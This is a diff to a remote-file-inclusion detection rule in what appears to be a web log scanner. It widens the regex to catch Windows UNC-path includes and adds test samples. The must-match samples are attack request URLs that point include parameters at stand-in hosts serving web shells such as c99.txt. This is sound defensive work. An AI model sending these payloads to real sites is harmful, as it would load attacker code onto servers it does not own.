@@ -61,16 +61,24 @@ class InclusionRemoteUrl(PatternRule):
         r"(?:&|$)|\?+$|\.(?:txt|sh|pl|py)(?:&|$))"
         r"|\b(?:page|file|include|inc|template|tpl|dir|module|mod|path|doc|folder|root|layout|conf"
         r"|lang|view|content|load|show)\w{0,12}=\s*(?:https?|ftps?)://"
+        # A Windows UNC path (\\host\share\x.php, read with "/" once decoded) to a script in
+        # an include parameter: PHP on Windows includes it over SMB.
+        r"|\b(?:page|file|include|inc|template|tpl|module|mod|path|doc|layout|conf|lang|view"
+        r"|content|load)\w{0,12}=\s*//[\w.-]+/[^&\s?]*\.(?:php\d?|phtml|inc|txt)(?:$|[&?\s])"
     )
-    trigger = r"://"
+    trigger = r"://|=\s*//"
     must_match = (
         AccessSample(target="/index.php?page=http://203.0.113.50/shell.txt?"),
         AccessSample(target="/index.php?inc=hTTp%3A%2F%2Fevil.example%2Fc99.txt%3F%3F"),
         AccessSample(target="/main.php?template=https://evil.example/x"),
+        AccessSample(target="/view.php?page=%5c%5c198.51.100.9%5cshare%5cshell.php"),
+        AccessSample(target="/view.php?inc=%5C%5Cevil.example%5Cs%5Cx.txt&a=1"),
     )
     must_not_match = (
         AccessSample(target="/login?next=https://example.com/account&lang=en"),
         AccessSample(target="/share?url=https://news.example.com/story?id=7&ref=tw"),
+        AccessSample(target="/login?next=//www.example.com/account"),
+        AccessSample(target="/view.php?page=//cdn.example.com/help/index.html"),
     )
 
 
